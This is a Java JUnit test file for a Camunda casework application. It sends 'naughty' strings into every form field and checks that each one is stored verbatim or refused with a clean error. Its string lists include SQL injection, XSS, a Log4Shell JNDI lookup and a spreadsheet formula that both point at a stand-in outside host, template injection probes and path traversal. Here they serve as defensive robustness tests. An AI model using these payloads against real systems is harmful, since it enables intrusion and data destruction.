package org.assist.security;

import static java.util.stream.Collectors.joining;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.assist.fixture.AssistTest;
import org.assist.fixture.Casework;
import org.camunda.bpm.engine.RepositoryService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/** Naughty texts in every field of every form, sent as Tasklist sends them: kept and shown as they are, or refused in words. */
@AssistTest
class NaughtyTextsTests {

    private static final String TASKS = "/camunda/api/engine/engine/default/task/";
    private static final List<String> KEPT = List.of("\u202eturned\u202c", "\u200b\u200d\ufeff", "\ud83d\udc69\u200d\ud83d\udc67 \ud83c\udf31", "e\u0301\u0302\u0303\u0304", "'; drop table assist.case_file; --",
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "${jndi:ldap://elsewhere.example/x}", "${7*7}", "#{7*7}", "[[${7*7}]]", "{{7*7}}", "=HYPERLINK(\"https://elsewhere.example\")",
            "null", "%00%0a..%2f", "Zo\u00eb \u0160 \u05d0\u05d1 \u0645\u0627 \u4f60", "\\u0000\\x00", "__proto__");
    /** Half a character travels only this way. */
    private static final ObjectMapper ESCAPED = JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();
    private static final List<String> REFUSED = List.of("a\0b", "\u001b[31m", "\ud800");
    private static final String HUGE = "x".repeat(1_000_000);

    @LocalServerPort
    int port;
    @Autowired
    RepositoryService repository;
    @Autowired
    RuntimeService runtime;
    @Autowired
    TaskService tasks;
    @Autowired
    Casework work;
    @Autowired
    ObjectMapper json;

    private final Map<String, JsonNode> forms = new TreeMap<>();
    private String deployment;
    private String number;

    @BeforeEach
    void everyFormIsATaskOfOneModel() throws IOException {
        var trial = repository.createDeployment().name("naughty texts");
        try (var files = Files.list(Path.of("processes/forms"))) {
            for (var file : files.filter(path -> path.toString().endsWith(".form")).sorted().toList()) {
                forms.put(file.getFileName().toString().replace(".form", ""), json.readTree(file.toFile()));
                trial.addString("forms/" + file.getFileName(), Files.readString(file));
            }
        }
        deployment = trial.addString("naughty-texts.bpmn", model()).deploy().getId();
        number = work.report();
    }

    @AfterEach
    void nothingOfItStays() {
        repository.deleteDeployment(deployment, true);
    }

    @Test
    void whatIsTypedIntoAnyFieldIsKeptAndShownAsItIsOrRefusedInWords() throws IOException {
        var first = begun();
        var second = begun();
        var caseworker = new Visitor(port).loggedInAs("caseworker");
        var kept = new ArrayList<String>();
        var notHere = new ArrayList<String>();       // about a match, a need or a referral that this woman does not have
        var turn = 0;
        for (var form : forms.keySet()) {
            var task = tasks.createTaskQuery().processInstanceId(first).taskDefinitionKey("Task_" + form).singleResult().getId();
            if (caseworker.call("GET", TASKS + task + "/form-variables", null).statusCode() >= 500) {
                notHere.add(form);
                continue;
            }
            refused(caseworker, form, task, answers(form, "x", true), "anything where choices, numbers and dates are");
            var texts = texts(form);
            if (texts.isEmpty()) {
                continue;
            }
            for (var text : REFUSED) {
                refused(caseworker, form, task, answers(form, text, false), text);
            }
            if (turn == 0) {
                refused(caseworker, form, task, answers(form, HUGE, false), HUGE);
            }
            var text = KEPT.get(turn++ % KEPT.size());
            var answer = caseworker.call("POST", TASKS + task + "/submit-form", answers(form, text, false));
            assertThat(answer.statusCode()).as("%s, %s: %s", form, text, answer.body()).isIn(204, 400);
            if (answer.statusCode() == 204) {
                var again = tasks.createTaskQuery().processInstanceId(second).taskDefinitionKey("Task_" + form).singleResult().getId();
                var shown = json.readTree(caseworker.call("GET", TASKS + again + "/form-variables?deserializeValues=false", null).body());
                var seen = texts.stream().filter(shown::has).toList();
                assertThat(seen).as(form).allSatisfy(field -> assertThat(shown.path(field).path("value").asText()).isEqualTo(text));
                kept.addAll(seen.isEmpty() ? List.of() : List.of(form));
            }
        }
        assertThat(notHere).as("forms that cannot be tried").hasSizeLessThan(forms.size() / 3);
        assertThat(kept).as("forms that kept one").hasSizeGreaterThan(10);
    }

    private void refused(Visitor caseworker, String form, String task, String answers, String what) throws IOException {
        var answer = caseworker.call("POST", TASKS + task + "/submit-form", answers);
        assertThat(answer.statusCode()).as("%s, %.20s: %s", form, what, answer.body()).isEqualTo(400);
        assertThat(json.readTree(answer.body()).path("message").asText()).as(form).isNotBlank().doesNotContain(what);
    }

    private String begun() {
        return runtime.createProcessInstanceByKey("naughty-texts").businessKey(number).setVariable("leadOrganisation", "harbour-light").execute().getId();
    }

    /** @param odd the text stands in every field that is no text as well */
    private String answers(String form, String text, boolean odd) throws IOException {
        var body = json.createObjectNode();
        var variables = body.putObject("variables");
        fields(form).forEach(field -> {
            var key = field.path("key").asText();
            var type = field.path("type").asText();
            if (type.startsWith("text") || odd) {
                variables.putObject(key).put("value", text).put("type", "String");
            } else if (field.at("/validate/required").asBoolean()) {
                valid(field, type, variables.putObject(key));
            }
        });
        if (odd) {
            variables.putObject("noQuestionOfThisForm").put("value", text).put("type", "String");
        }
        return ESCAPED.writeValueAsString(body);
    }

    private static void valid(JsonNode field, String type, ObjectNode value) {
        var choice = field.at("/values/0/value").asText("en");
        switch (type) {
            case "number" -> value.put("value", field.at("/validate/min").asInt(0)).put("type", "Integer");
            case "checkbox" -> value.put("value", true).put("type", "Boolean");
            case "datetime" -> value.put("value", "2026-12-24").put("type", "String");
            case "checklist", "taglist" -> value.put("value", "[\"%s\"]".formatted(choice)).put("type", "Json");
            default -> value.put("value", choice).put("type", "String");
        }
    }

    private List<String> texts(String form) {
        return fields(form).stream().filter(field -> field.path("type").asText().startsWith("text") && !field.at("/validate").has("pattern")).map(field -> field.path("key").asText()).toList();
    }

    private List<JsonNode> fields(String form) {
        var fields = new ArrayList<JsonNode>();
        collect(forms.get(form).path("components"), fields);
        return fields;
    }

    private static void collect(JsonNode components, List<JsonNode> fields) {
        components.forEach(component -> {
            if (component.has("key")) {
                fields.add(component);
            }
            collect(component.path("components"), fields);
        });
    }

    private String model() {
        var asked = forms.keySet().stream().map(form -> """
                <bpmn:sequenceFlow id="To_%1$s" sourceRef="Gateway_All" targetRef="Task_%1$s" />
                <bpmn:userTask id="Task_%1$s" name="%1$s" camunda:candidateGroups="caseworker" camunda:formRef="%1$s" camunda:formRefBinding="deployment" />
                """.formatted(form)).collect(joining());
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:camunda="http://camunda.org/schema/1.0/bpmn" id="Definitions_Naughty" targetNamespace="https://assist.example/processes">
                  <bpmn:process id="naughty-texts" name="Naughty texts" isExecutable="true" camunda:historyTimeToLive="P1D" camunda:versionTag="1">
                    <bpmn:startEvent id="Start_Begun" />
                    <bpmn:sequenceFlow id="Flow_1" sourceRef="Start_Begun" targetRef="Gateway_All" />
                    <bpmn:parallelGateway id="Gateway_All" />
                    %s
                  </bpmn:process>
                </bpmn:definitions>
                """.formatted(asked);
    }
}
